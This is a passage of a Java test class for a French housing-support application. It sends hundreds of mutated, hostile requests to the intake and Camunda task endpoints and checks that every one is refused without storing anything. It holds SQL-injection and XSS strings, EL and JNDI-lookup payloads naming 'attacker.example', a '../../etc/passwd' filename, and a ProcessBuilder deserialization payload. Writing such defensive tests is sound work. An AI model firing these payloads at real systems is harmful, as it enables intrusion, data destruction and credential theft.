package fr.logementaccompagne.security;

import static fr.logementaccompagne.access.AccessPathway.Elements.AGREE_OBJECTIVES;
import static fr.logementaccompagne.access.AccessPathway.Elements.ATTRIBUTION_COMMISSION;
import static fr.logementaccompagne.access.AccessPathway.Elements.PERIODIC_REVIEW;
import static fr.logementaccompagne.access.AccessPathway.Elements.PROPOSE_DWELLING;
import static fr.logementaccompagne.access.AccessPathway.Elements.REVIEW_DUE;
import static fr.logementaccompagne.access.AccessPathway.Elements.SIGN_CONTRACT;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.SoftAssertions.assertSoftly;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.util.RawValue;
import fr.logementaccompagne.access.AccessPathway.Vars;
import fr.logementaccompagne.support.EngineRestClient;
import fr.logementaccompagne.support.H2ApplicationTest;
import fr.logementaccompagne.support.StoreSnapshot;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.math.BigDecimal;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpRequest.BodyPublishers;
import java.net.http.HttpResponse;
import java.net.http.HttpResponse.BodyHandlers;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import java.util.TreeSet;
import java.util.UUID;
import java.util.function.Function;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * Hostile input on both intake endpoints and on task completion (DESIGN section 8): several hundred requests
 * generated from mutations of valid bodies, sent over real HTTP to the whole application. Every one must get a
 * 4xx whose body names the problem (problem JSON with {@code errors} on {@code /api}, Camunda's
 * {@code {"type","message"}} on {@code /engine-rest}); nothing may be stored; the server must then accept valid
 * requests.
 */
@H2ApplicationTest
class HostileInputTest {

  static final String PARTNER = "marie.visa";
  static final String AGENCY = "agence.roubaix";
  static final String ADMIN = "demo";
  static final String PASSWORD = "demo";
  static final String REFERRALS = "/api/referrals";
  static final String ALERTS = "/api/maintien/alerts";
  static final String ALERT_DWELLING = "ROU-BAV-07";
  static final int MEGABYTE = 1024 * 1024;
  static final int TEN_MEGABYTES = 10 * MEGABYTE;

  static final ObjectMapper JSON = new ObjectMapper();
  static final JsonNodeFactory NODES = JsonNodeFactory.instance;

  @LocalServerPort
  int port;
  @Autowired
  TestRestTemplate http;
  @Autowired
  JdbcTemplate jdbc;

  final HttpClient client = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
      .connectTimeout(Duration.ofSeconds(5)).build();
  final List<Attack> attacks = new ArrayList<>();

  // ------------------------------------------------------------------------------------------------ the test

  @Test
  void hostileRequestsAreRefusedWithoutStoringAnythingAndTheServerCarriesOn() throws Exception {
    EngineRestClient rest = new EngineRestClient(http, ADMIN, PASSWORD);

    // Setup: the valid bodies the mutations start from are accepted as they are, and two access cases wait for
    // a decision, one at the joint review and one at the dwelling proposal.
    String reviewCase = created(send(REFERRALS, PARTNER, referral(newHousehold())));
    rest.runAsyncSteps(reviewCase);
    String proposed = firstDwellingOption(rest, reviewCase);
    rest.complete(reviewCase, PROPOSE_DWELLING, Map.of(Vars.PROPOSED_DWELLING_REFERENCE, proposed));
    rest.complete(reviewCase, ATTRIBUTION_COMMISSION, Map.of(Vars.COMMISSION_DECISION, "ATTRIBUTED",
        "commissionDate", "2026-11-20"));
    rest.complete(reviewCase, SIGN_CONTRACT, Map.of("contractSignedOn", "2026-11-21"));
    rest.complete(reviewCase, AGREE_OBJECTIVES, Map.of());
    rest.fireTimer(reviewCase, REVIEW_DUE);
    String reviewTask = rest.task(reviewCase, PERIODIC_REVIEW).get("id").asText();

    String proposalCase = created(send(REFERRALS, PARTNER, referral(newHousehold())));
    rest.runAsyncSteps(proposalCase);
    String proposalTask = rest.task(proposalCase, PROPOSE_DWELLING).get("id").asText();
    String option = firstDwellingOption(rest, proposalCase);

    created(send(ALERTS, AGENCY, alert(newTenant())));

    // The barrage
    generateIntakeAttacks(REFERRALS, PARTNER, this::referral, HostileInputTest::newHousehold, referralFields());
    generateIntakeAttacks(ALERTS, AGENCY, this::alert, HostileInputTest::newTenant, alertFields());
    generateTaskAttacks(reviewTask, Vars.REVIEW_DECISION, "CONTINUE");
    generateTaskAttacks(proposalTask, Vars.PROPOSED_DWELLING_REFERENCE, option);
    generateTaskPathAttacks();

    Map<String, String> before = storeSnapshot();
    List<Outcome> outcomes = new ArrayList<>();
    for (Attack attack : attacks) {
      outcomes.add(fire(attack));
    }
    Map<String, String> after = storeSnapshot();

    printSummary(outcomes);
    List<String> failures = outcomes.stream().filter(o -> o.problem() != null)
        .map(o -> "%s %s [%s] %s -> %s: %s%n    %s".formatted(o.attack().method(), o.attack().path(),
            o.attack().category(), o.attack().label(), o.status(), o.problem(), abbreviate(o.body(), 400)))
        .toList();
    assertSoftly(soft -> {
      soft.assertThat(attacks).hasSizeGreaterThanOrEqualTo(200);
      soft.assertThat(failures).as("hostile requests answered other than expected").isEmpty();
      soft.assertThat(after).as("nothing stored by hostile requests").isEqualTo(before);
    });

    // The server carries on: a valid referral, a valid alert and valid decisions are accepted.
    assertThat(get("/actuator/health").statusCode()).isEqualTo(200);
    String newReferral = created(send(REFERRALS, PARTNER, referral(newHousehold())));
    String newAlert = created(send(ALERTS, AGENCY, alert(newTenant())));
    assertThat(List.of(newReferral, newAlert)).doesNotContainNull();
    assertThat(completeTask(reviewTask, Map.of(Vars.REVIEW_DECISION, "CONTINUE")).statusCode()).isEqualTo(204);
    assertThat(completeTask(proposalTask, Map.of(Vars.PROPOSED_DWELLING_REFERENCE, option)).statusCode())
        .isEqualTo(204);
    rest.runAsyncSteps(reviewCase);
    rest.runAsyncSteps(proposalCase);
    assertThat(rest.activeTaskKeys(reviewCase)).doesNotContain(PERIODIC_REVIEW);
    assertThat(rest.activeTaskKeys(proposalCase)).containsExactly(ATTRIBUTION_COMMISSION);
    assertThat(count("SELECT COUNT(*) FROM pathway_case"))
        .isEqualTo(Long.parseLong(before.get("pathway_case")) + 2);
  }

  // ------------------------------------------------------------------------------------------------ bodies

  ObjectNode referral(String household) {
    ObjectNode body = NODES.objectNode();
    body.put("householdReference", household);
    body.put("partnerCode", "VISA");
    body.put("territoryCode", "LILLE");
    body.put("householdSize", 2);
    body.put("dependants", 1);
    body.put("annualResourcesEur", 15000);
    body.putArray("priorityCategories").add("LEAVING_SHELTER");
    body.put("needsMotorAdaptedDwelling", false);
    body.put("consentToAccompaniment", true);
    return body;
  }

  ObjectNode alert(String household) {
    ObjectNode body = NODES.objectNode();
    body.put("householdReference", household);
    body.put("dwellingReference", ALERT_DWELLING);
    body.put("territoryCode", "ROUBAIX_TOURCOING");
    body.put("arrearsAmountEur", new BigDecimal("1850.40"));
    body.put("arrearsMonths", 4);
    body.putArray("troubleKinds").add("ARREARS").add("UPKEEP");
    return body;
  }

  static String newHousehold() {
    return "MEN-" + UUID.randomUUID().toString().substring(0, 8).toUpperCase();
  }

  static String newTenant() {
    return "LOC-" + UUID.randomUUID().toString().substring(0, 8).toUpperCase();
  }

  enum Kind { REFERENCE, CODE, OPTIONAL_CODE, INTEGER, AMOUNT, CODES, BOOLEAN, OPTIONAL_BOOLEAN }

  /**
   * A field of an intake body: its kind, a valid value, values well-formed but out of the field's range, and
   * well-formed codes that name nothing known (mapped to the field the answer names).
   */
  record Field(String name, Kind kind, String validText, List<JsonNode> outOfRange, Map<String, String> unknownCodes) {
  }

  static List<Field> referralFields() {
    return List.of(
        new Field("householdReference", Kind.REFERENCE, null, List.of(text("AB"), text("men-0001")), Map.of()),
        new Field("partnerCode", Kind.CODE, "VISA", List.of(), Map.of("NOT_A_PARTNER", "partnerCode")),
        new Field("territoryCode", Kind.CODE, "LILLE", List.of(), Map.of("ATLANTIS", "territoryCode")),
        new Field("householdSize", Kind.INTEGER, "2", List.of(number("0"), number("13")), Map.of()),
        new Field("dependants", Kind.INTEGER, "1", List.of(number("2"), number("12")), Map.of()),
        new Field("annualResourcesEur", Kind.AMOUNT, "15000", List.of(), Map.of()),
        new Field("priorityCategories", Kind.CODES, "LEAVING_SHELTER", List.of(),
            Map.of("NOT_A_CATEGORY", "priorityCategories")),
        // optional: absent or null means no need (the team's clients leave it out)
        new Field("needsMotorAdaptedDwelling", Kind.OPTIONAL_BOOLEAN, "false", List.of(), Map.of()),
        new Field("consentToAccompaniment", Kind.BOOLEAN, "true", List.of(), Map.of()),
        new Field("programmeCode", Kind.OPTIONAL_CODE, "CHRS_HORS_LES_MURS", List.of(),
            Map.of("NO_PROGRAMME", "programmeCode")));
  }

  static List<Field> alertFields() {
    return List.of(
        new Field("householdReference", Kind.REFERENCE, null, List.of(text("AB"), text("loc-0001")), Map.of()),
        // a dwelling that does not exist, and one of another territory
        new Field("dwellingReference", Kind.CODE, ALERT_DWELLING, List.of(),
            Map.of("NOWHERE-1", "dwellingReference", "LIL-FIV-01", "dwellingReference")),
        // a territory that does not exist, and one the dwelling is not in
        new Field("territoryCode", Kind.CODE, "ROUBAIX_TOURCOING", List.of(),
            Map.of("ATLANTIS", "territoryCode", "LILLE", "dwellingReference")),
        new Field("arrearsAmountEur", Kind.AMOUNT, "1850.40", List.of(), Map.of()),
        new Field("arrearsMonths", Kind.INTEGER, "4", List.of(number("601")), Map.of()),
        new Field("troubleKinds", Kind.CODES, "ARREARS", List.of(), Map.of("NOISE", "troubleKinds")));
  }

  // ------------------------------------------------------------------------------------------------ generation

  void generateIntakeAttacks(String path, String user, Function<String, ObjectNode> base,
                             Supplier<String> household, List<Field> fields) {
    for (Field field : fields) {
      for (Mutation mutation : mutationsOf(field)) {
        ObjectNode body = base.apply(household.get());
        if (mutation.value() == null) {
          body.remove(field.name());
        } else {
          body.set(field.name(), mutation.value());
        }
        attacks.add(Attack.api(path, user, mutation.category(), field.name() + ": " + mutation.label(),
            bytes(body), mutation.status(), mutation.namedField() != null ? mutation.namedField() : field.name()));
      }
    }

    // extra, unknown fields (mass assignment, prototype pollution, polymorphic type ids, near-miss names)
    Map<String, JsonNode> extras = new LinkedHashMap<>();
    extras.put("foo", number("1"));
    extras.put("caseReference", text("ACC-2026-000001"));
    extras.put("processInstanceId", text("0"));
    extras.put("status", text("CLOSED"));
    extras.put("__proto__", JSON.createObjectNode().put("admin", true));
    extras.put("@type", text("java.lang.ProcessBuilder"));
    extras.put("@class", text("org.springframework.context.support.ClassPathXmlApplicationContext"));
    extras.put("HouseholdReference", text("MEN-CASE-0001"));
    extras.put("householdReference ", text("MEN-SPACE-0001"));
    extras.put("", text("empty name"));
    extras.put("<script>alert(1)</script>", text("x"));
    extras.put("'; DROP TABLE household; --", text("x"));
    extras.forEach((name, value) -> {
      ObjectNode body = base.apply(household.get());
      body.set(name, value);
      attacks.add(Attack.api(path, user, "extra fields", "unknown field '" + printable(name) + "'", bytes(body),
          400, name));
    });

    // duplicate keys: both values valid, the second one different (which one wins must not be a guess)
    String valid = base.apply(household.get()).toString();
    String first = "{\"householdReference\":\"" + household.get() + "\",";
    attacks.add(Attack.api(path, user, "duplicate keys", "householdReference twice, both valid",
        (first + valid.substring(1)).getBytes(UTF_8), 400, "*"));
    String territory = path.equals(REFERRALS) ? "LILLE" : "ROUBAIX_TOURCOING";
    attacks.add(Attack.api(path, user, "duplicate keys", "territoryCode twice, same value",
        ("{\"territoryCode\":\"" + territory + "\"," + base.apply(household.get()).toString().substring(1))
            .getBytes(UTF_8), 400, "*"));
    attacks.add(Attack.api(path, user, "duplicate keys", "householdReference twice, second invalid",
        (base.apply(household.get()).toString().replaceFirst("}$", ",\"householdReference\":\"bad ref\"}"))
            .getBytes(UTF_8), 400, "*"));

    generateBodyAttacks(path, user, () -> base.apply(household.get()).toString(), true);
  }

  /** Whole-body attacks: malformed JSON, BOM, content types, sizes. For /api and /engine-rest alike. */
  void generateBodyAttacks(String path, String user, Supplier<String> valid, boolean api) {
    String bodyField = api ? "*" : null;
    Map<String, byte[]> malformed = new LinkedHashMap<>();
    malformed.put("empty body", new byte[0]);
    malformed.put("whitespace only", utf8(" \n\t "));
    malformed.put("JSON null", utf8("null"));
    malformed.put("JSON array", utf8("[]"));
    malformed.put("JSON string", utf8("\"hello\""));
    malformed.put("JSON number", utf8("42"));
    malformed.put("truncated in the middle", utf8(half(valid.get())));
    malformed.put("closing brace missing", utf8(valid.get().replaceFirst("}$", "")));
    malformed.put("trailing garbage", utf8(valid.get() + "xyz"));
    malformed.put("two objects", utf8(valid.get() + valid.get()));
    malformed.put("trailing comma", utf8(valid.get() + ","));
    malformed.put("comma before the closing brace", utf8(valid.get().replaceFirst("}$", ",}")));
    malformed.put("single quotes", utf8(valid.get().replace('"', '\'')));
    malformed.put("comment", utf8("/* hello */" + valid.get()));
    malformed.put("unquoted keys", utf8(valid.get().replaceAll("\"([A-Za-z]+)\":", "$1:")));
    malformed.put("NaN literal", utf8(valid.get().replaceFirst("\\{", "{\"x\":NaN,")));
    malformed.put("raw NUL in a string", utf8(valid.get().replaceFirst("\":\"", "\":\"\u0000")));
    malformed.put("raw BEL in a string", utf8(valid.get().replaceFirst("\":\"", "\":\"\u0007")));
    String split = valid.get();
    malformed.put("invalid UTF-8", concat(utf8(split.substring(0, 2)), new byte[] {(byte) 0xC3, 0x28},
        utf8(split.substring(2))));
    malformed.put("nested 100000 deep", utf8("{\"a\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}"));
    malformed.put("top level nested 100000 deep", utf8("[".repeat(100_000)));
    malformed.forEach((label, bytes) ->
        attacks.add(new Attack(path, "POST", user, "malformed JSON", label, "application/json", bytes, false,
            400, bodyField, null)));

    byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
    Map<String, byte[]> boms = new LinkedHashMap<>();
    boms.put("BOM only", bom);
    boms.put("BOM then truncated body", concat(bom, utf8(half(valid.get()))));
    boms.put("BOM then trailing garbage", concat(bom, utf8(valid.get() + "xyz")));
    boms.put("two BOMs", concat(bom, bom, utf8(valid.get())));
    boms.put("UTF-16 BOM on UTF-8 bytes", concat(new byte[] {(byte) 0xFE, (byte) 0xFF}, utf8(valid.get())));
    boms.put("UTF-32 BOM on UTF-8 bytes", concat(new byte[] {0, 0, (byte) 0xFE, (byte) 0xFF}, utf8(valid.get())));
    boms.forEach((label, bytes) ->
        attacks.add(new Attack(path, "POST", user, "BOM", label, "application/json", bytes, false, 400,
            bodyField, null)));

    Map<String, String> types = new LinkedHashMap<>();
    types.put("text/plain", valid.get());
    types.put("application/xml", "<referral><householdReference>X</householdReference></referral>");
    types.put("application/x-www-form-urlencoded", "householdReference=MEN-FORM-0001&partnerCode=VISA");
    types.put("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n"
        + valid.get() + "\r\n--xyz--\r\n");
    types.put("application/javascript", valid.get());
    types.put("image/png", valid.get());
    types.put(null, valid.get());
    types.forEach((type, text) ->
        attacks.add(new Attack(path, "POST", user, "content type", "Content-Type " + type, type,
            text.getBytes(UTF_8), false, 415, null, null)));
    attacks.add(new Attack(path, "POST", user, "content type", "JSON with an unknown charset",
        "application/json; charset=nope", valid.get().getBytes(UTF_8), false, api ? 415 : 400, null, null));

    String prefix = valid.get().replaceFirst("}$", "");
    attacks.add(new Attack(path, "POST", user, "10 MB body", "10 MB string in an unknown field",
        "application/json", (prefix + ",\"padding\":\"" + "x".repeat(TEN_MEGABYTES) + "\"}").getBytes(UTF_8),
        false, 413, null, null));
    attacks.add(new Attack(path, "POST", user, "10 MB body", "10 MB of white space",
        "application/json", (prefix + " ".repeat(TEN_MEGABYTES) + "}").getBytes(UTF_8), false, 413, null, null));
    attacks.add(new Attack(path, "POST", user, "10 MB body", "10 MB string in a known field",
        "application/json", valid.get().replaceFirst("\":\"", "\":\"" + "A".repeat(TEN_MEGABYTES)).getBytes(UTF_8),
        false, 413, null, null));
    attacks.add(new Attack(path, "POST", user, "10 MB body", "10 MB array",
        "application/json", (prefix + ",\"padding\":[" + "1,".repeat(TEN_MEGABYTES / 2) + "1]}").getBytes(UTF_8),
        false, 413, null, null));
    attacks.add(new Attack(path, "POST", user, "10 MB body", "10 MB chunked (no Content-Length)",
        "application/json", (prefix + ",\"padding\":\"" + "x".repeat(TEN_MEGABYTES) + "\"}").getBytes(UTF_8),
        true, 413, null, null));
    attacks.add(new Attack(path, "POST", user, "10 MB body", "just over 1 MB",
        "application/json", (prefix + ",\"padding\":\"" + "x".repeat(MEGABYTE) + "\"}").getBytes(UTF_8),
        false, 413, null, null));
    attacks.add(new Attack(path, "POST", user, "10 MB body", "just over 1 MB, chunked",
        "application/json", (prefix + ",\"padding\":\"" + "x".repeat(MEGABYTE) + "\"}").getBytes(UTF_8),
        true, 413, null, null));
  }

  /** A value for a field (null: the field left out), the status expected, and the field the answer must name. */
  record Mutation(String category, String label, JsonNode value, int status, String namedField) {
    Mutation(String category, String label, JsonNode value) {
      this(category, label, value, 400, null);
    }
  }

  static List<Mutation> mutationsOf(Field field) {
    List<Mutation> m = new ArrayList<>();
    if (field.kind() != Kind.OPTIONAL_CODE && field.kind() != Kind.OPTIONAL_BOOLEAN) {
      m.add(new Mutation("missing field", "missing", null));
      m.add(new Mutation("null value", "null", NODES.nullNode()));
    }
    switch (field.kind()) {
      case REFERENCE, CODE, OPTIONAL_CODE -> {
        String valid = field.validText() != null ? field.validText() : newHousehold();
        m.addAll(stringMutations(valid, field.kind() != Kind.OPTIONAL_CODE));
        m.add(new Mutation("wrong type", "number", number("12345")));
        m.add(new Mutation("wrong type", "decimal", number("12.5")));
        m.add(new Mutation("wrong type", "boolean", NODES.booleanNode(true)));
        m.add(new Mutation("arrays/nested", "array instead of string", NODES.arrayNode().add(valid)));
        m.add(new Mutation("arrays/nested", "empty array", NODES.arrayNode()));
        m.add(new Mutation("arrays/nested", "object instead of string", NODES.objectNode().put("code", valid)));
      }
      case INTEGER -> {
        m.add(new Mutation("wrong type", "digits as a string", text(field.validText())));
        m.add(new Mutation("wrong type", "letters", text("abc")));
        m.add(new Mutation("wrong type", "decimal", number("2.5")));
        m.add(new Mutation("wrong type", "exponent", number("2e0")));
        m.add(new Mutation("wrong type", "boolean", NODES.booleanNode(true)));
        m.add(new Mutation("empty/blank", "empty string", text("")));
        m.add(new Mutation("arrays/nested", "array", NODES.arrayNode().add(2)));
        m.add(new Mutation("arrays/nested", "object", NODES.objectNode().put("value", 2)));
        m.add(new Mutation("huge/negative numbers", "-1", number("-1")));
        m.add(new Mutation("huge/negative numbers", "int min - 1", number("-2147483649")));
        m.add(new Mutation("huge/negative numbers", "int max + 1", number("2147483648")));
        m.add(new Mutation("huge/negative numbers", "20 digits", number("99999999999999999999")));
        m.add(new Mutation("huge/negative numbers", "1e400", number("1e400")));
        m.add(new Mutation("huge/negative numbers", "2000 digits", number("9".repeat(2000)), 400, "body"));
        field.outOfRange().forEach(value ->
            m.add(new Mutation("out of range", value.asText(), value)));
      }
      case AMOUNT -> {
        m.add(new Mutation("wrong type", "digits as a string", text(field.validText())));
        m.add(new Mutation("wrong type", "letters", text("abc")));
        m.add(new Mutation("wrong type", "NaN as a string", text("NaN")));
        m.add(new Mutation("wrong type", "Infinity as a string", text("Infinity")));
        m.add(new Mutation("wrong type", "boolean", NODES.booleanNode(true)));
        m.add(new Mutation("empty/blank", "empty string", text("")));
        m.add(new Mutation("arrays/nested", "array", NODES.arrayNode().add(number(field.validText()))));
        m.add(new Mutation("arrays/nested", "object", NODES.objectNode().set("eur", number(field.validText()))));
        m.add(new Mutation("huge/negative numbers", "-1", number("-1")));
        m.add(new Mutation("huge/negative numbers", "-0.01", number("-0.01")));
        m.add(new Mutation("huge/negative numbers", "1e400", number("1e400")));
        m.add(new Mutation("huge/negative numbers", "1e999999999", number("1e999999999")));
        m.add(new Mutation("huge/negative numbers", "12 integer digits", number("123456789012")));
        m.add(new Mutation("huge/negative numbers", "20 digits", number("99999999999999999999.99")));
        m.add(new Mutation("huge/negative numbers", "2000 digits", number("9".repeat(2000)), 400, "body"));
        m.add(new Mutation("huge/negative numbers", "tenth of a cent", number("10.001")));
        m.add(new Mutation("huge/negative numbers", "1e-400", number("1e-400")));
      }
      case BOOLEAN, OPTIONAL_BOOLEAN -> {
        m.add(new Mutation("wrong type", "\"true\" as a string", text("true")));
        m.add(new Mutation("wrong type", "\"yes\"", text("yes")));
        m.add(new Mutation("wrong type", "1", number("1")));
        m.add(new Mutation("wrong type", "0", number("0")));
        m.add(new Mutation("empty/blank", "empty string", text("")));
        m.add(new Mutation("arrays/nested", "array", NODES.arrayNode().add(true)));
        m.add(new Mutation("arrays/nested", "object", NODES.objectNode().put("value", true)));
      }
      case CODES -> {
        String valid = field.validText();
        m.add(new Mutation("wrong type", "string instead of list", text(valid)));
        m.add(new Mutation("wrong type", "number instead of list", number("5")));
        m.add(new Mutation("wrong type", "boolean instead of list", NODES.booleanNode(true)));
        m.add(new Mutation("arrays/nested", "object instead of list", NODES.objectNode().put("code", valid)));
        m.add(new Mutation("empty/blank", "empty list", NODES.arrayNode()));
        m.add(new Mutation("empty/blank", "list of an empty string", NODES.arrayNode().add("")));
        m.add(new Mutation("arrays/nested", "list of null", NODES.arrayNode().addNull()));
        m.add(new Mutation("arrays/nested", "valid code and null", NODES.arrayNode().add(valid).addNull()));
        m.add(new Mutation("arrays/nested", "duplicate codes", NODES.arrayNode().add(valid).add(valid)));
        m.add(new Mutation("arrays/nested", "40 times the same code",
            NODES.arrayNode().addAll(IntStream.range(0, 40).mapToObj(i -> (JsonNode) text(valid)).toList())));
        m.add(new Mutation("arrays/nested", "2000 distinct unknown codes",
            NODES.arrayNode().addAll(IntStream.range(0, 2000).mapToObj(i -> (JsonNode) text("CODE_" + i)).toList())));
        m.add(new Mutation("wrong type", "list of numbers", NODES.arrayNode().add(5)));
        m.add(new Mutation("wrong type", "list of booleans", NODES.arrayNode().add(true)));
        m.add(new Mutation("arrays/nested", "list of lists", NODES.arrayNode().add(NODES.arrayNode().add(valid))));
        m.add(new Mutation("arrays/nested", "list of objects",
            NODES.arrayNode().add(NODES.objectNode().put("code", valid))));
        for (Mutation s : stringMutations(valid, true)) {
          if (!s.category().equals("empty/blank")) {
            m.add(new Mutation(s.category(), "list of " + s.label(), NODES.arrayNode().add(s.value())));
          }
        }
      }
    }
    field.unknownCodes().forEach((code, named) -> {
      int status = field.kind() == Kind.CODES ? 400 : 422;
      JsonNode value = field.kind() == Kind.CODES ? NODES.arrayNode().add(code) : text(code);
      m.add(new Mutation("unknown codes", code, value, status, named));
      String lower = code.toLowerCase();
      m.add(new Mutation("unknown codes", lower, field.kind() == Kind.CODES ? NODES.arrayNode().add(lower)
          : text(lower), 400, field.name()));
    });
    if (field.kind() == Kind.REFERENCE) {
      field.outOfRange().forEach(value -> m.add(new Mutation("out of range", value.asText(), value)));
    }
    return m;
  }

  /** Hostile variants of a valid string value; blank variants only where blank is not "absent". */
  static List<Mutation> stringMutations(String valid, boolean withBlank) {
    List<Mutation> m = new ArrayList<>();
    String mid = valid.substring(0, 2);
    String rest = valid.substring(2);
    if (withBlank) {
      m.add(new Mutation("empty/blank", "empty string", text("")));
      m.add(new Mutation("empty/blank", "blank string", text("   ")));
    }
    m.add(new Mutation("empty/blank", "surrounded by spaces", text(" " + valid + " ")));
    m.add(new Mutation("too long", "41 characters", text((valid + "X".repeat(41)).substring(0, 41))));
    m.add(new Mutation("too long", "200 000 characters", text(valid + "X".repeat(200_000))));
    m.add(new Mutation("control chars", "NUL inside", text(mid + "\u0000" + rest)));
    m.add(new Mutation("control chars", "BEL inside", text(mid + "\u0007" + rest)));
    m.add(new Mutation("control chars", "trailing NUL", text(valid + "\u0000")));
    m.add(new Mutation("control chars", "leading BEL", text("\u0007" + valid)));
    m.add(new Mutation("control chars", "trailing newline", text(valid + "\n")));
    m.add(new Mutation("control chars", "tab inside", text(mid + "\t" + rest)));
    m.add(new Mutation("control chars", "ANSI escape", text("\u001B[31m" + valid)));
    m.add(new Mutation("control chars", "DEL", text(valid + "\u007F")));
    m.add(new Mutation("control chars", "C1 NEL", text(valid + "\u0085")));
    m.add(new Mutation("unicode", "RTL override", text("\u202E" + valid)));
    m.add(new Mutation("unicode", "combining acute accent", text(valid + "\u0301")));
    m.add(new Mutation("unicode", "zero-width space", text(mid + "\u200B" + rest)));
    m.add(new Mutation("unicode", "BOM inside", text("\uFEFF" + valid)));
    m.add(new Mutation("unicode", "fullwidth letters", text(fullwidth(valid))));
    m.add(new Mutation("unicode", "Cyrillic look-alike", text(valid.replace('A', '\u0410').replace('E', '\u0415')
        .replace('O', '\u041E') + (valid.matches(".*[AEO].*") ? "" : "\u0410"))));
    m.add(new Mutation("unicode", "emoji", text(valid + "\uD83D\uDE00")));
    m.add(new Mutation("unicode", "lone surrogate", text(valid + "\uD800")));
    m.add(new Mutation("unicode", "Arabic digits", text(valid + "\u0661\u0662")));
    m.add(new Mutation("script", "<script>", text("<script>alert(1)</script>")));
    m.add(new Mutation("script", "img onerror", text(valid + "<img src=x onerror=alert(1)>")));
    m.add(new Mutation("script", "EL expression ${}", text("${execution.setVariable('x', 1)}")));
    m.add(new Mutation("script", "EL expression #{}", text("#{7*7}")));
    m.add(new Mutation("script", "JNDI lookup", text("${jndi:ldap://attacker.example/a}")));
    m.add(new Mutation("SQL", "' OR 1=1 --", text("' OR 1=1 --")));
    m.add(new Mutation("SQL", "valid' OR '1'='1", text(valid + "' OR '1'='1")));
    m.add(new Mutation("SQL", "'; DROP TABLE household; --", text("'; DROP TABLE household; --")));
    m.add(new Mutation("SQL", "UNION SELECT", text(valid + "' UNION SELECT password_ FROM ACT_ID_USER --")));
    return m;
  }

  void generateTaskAttacks(String taskId, String variable, String validValue) {
    String path = "/engine-rest/task/" + taskId + "/complete";
    Map<String, JsonNode> values = new LinkedHashMap<>();
    values.put("unknown value", text("MAYBE"));
    values.put("empty string", text(""));
    values.put("blank string", text("   "));
    values.put("lower case", text(validValue.toLowerCase()));
    values.put("surrounded by spaces", text(" " + validValue + " "));
    values.put("trailing NUL", text(validValue + "\u0000"));
    values.put("leading BEL", text("\u0007" + validValue));
    values.put("trailing newline", text(validValue + "\n"));
    values.put("leading tab", text("\t" + validValue));
    values.put("NUL inside", text(validValue.substring(0, 3) + "\u0000" + validValue.substring(3)));
    values.put("zero-width space inside", text(validValue.substring(0, 3) + "\u200B" + validValue.substring(3)));
    values.put("RTL override", text("\u202E" + validValue));
    values.put("combining accent", text(validValue + "\u0301"));
    values.put("fullwidth letters", text(fullwidth(validValue)));
    values.put("<script>", text("<script>alert(1)</script>"));
    values.put("' OR 1=1 --", text("' OR 1=1 --"));
    values.put("'; DROP TABLE household; --", text("'; DROP TABLE household; --"));
    values.put("EL expression", text("${execution.setVariable('" + variable + "', '" + validValue + "')}"));
    values.put("two values", text(validValue + "," + validValue));
    values.put("100 000 characters", text("X".repeat(100_000)));
    values.put("number", number("42"));
    values.put("negative number", number("-1"));
    values.put("huge number", number("1e400"));
    values.put("boolean", NODES.booleanNode(true));
    values.put("null", NODES.nullNode());
    values.put("empty array", NODES.arrayNode());
    values.put("array of the valid value", NODES.arrayNode().add(validValue));
    values.put("object", NODES.objectNode().put("value", validValue));
    values.forEach((label, value) -> {
      ObjectNode body = NODES.objectNode();
      body.putObject("variables").putObject(variable).set("value", value);
      attacks.add(Attack.engine(path, "task: bad decision value", variable + ": " + label, bytes(body), 400,
          variable));
    });

    // values of wrong declared types (Camunda's typed variables)
    List<ObjectNode> typed = new ArrayList<>();
    typed.add(typedValue(text(validValue), "Integer", null));
    typed.add(typedValue(text(validValue), "Long", null));
    typed.add(typedValue(text(validValue), "Double", null));
    typed.add(typedValue(text(validValue), "Boolean", null));
    typed.add(typedValue(text(validValue), "Date", null));
    typed.add(typedValue(text(validValue), "Short", null));
    typed.add(typedValue(number("1"), "Integer", null));
    typed.add(typedValue(text(validValue), "Null", null));
    typed.add(typedValue(text(validValue), "NoSuchType", null));
    typed.add(typedValue(text(validValue), "", null));
    typed.add(typedValue(text(Base64.getEncoder().encodeToString(validValue.getBytes(UTF_8))), "Bytes", null));
    typed.add(typedValue(text(Base64.getEncoder().encodeToString(validValue.getBytes(UTF_8))), "File",
        NODES.objectNode().put("filename", "../../etc/passwd").put("mimeType", "text/plain")));
    typed.add(typedValue(text("\"MAYBE\""), "Json", null));
    typed.add(typedValue(text("{\"value\":\"" + validValue + "\"}"), "Json", null));
    typed.add(typedValue(text("{not json"), "Json", null));
    typed.add(typedValue(text("<decision>" + validValue + "</decision>"), "Xml", null));
    typed.add(typedValue(text(validValue), "Object", null));
    typed.add(typedValue(text("rO0ABXQACENPTlRJTlVF"), "Object", NODES.objectNode()
        .put("objectTypeName", "java.lang.String")
        .put("serializationDataFormat", "application/x-java-serialized-object")));
    typed.add(typedValue(text("{}"), "Object", NODES.objectNode()
        .put("objectTypeName", "com.example.NoSuchClass").put("serializationDataFormat", "application/json")));
    typed.add(typedValue(text("{\"command\":[\"touch\",\"/tmp/pwned\"]}"), "Object", NODES.objectNode()
        .put("objectTypeName", "java.lang.ProcessBuilder").put("serializationDataFormat", "application/json")));
    typed.add(typedValue(text("{}"), "Object", NODES.objectNode()
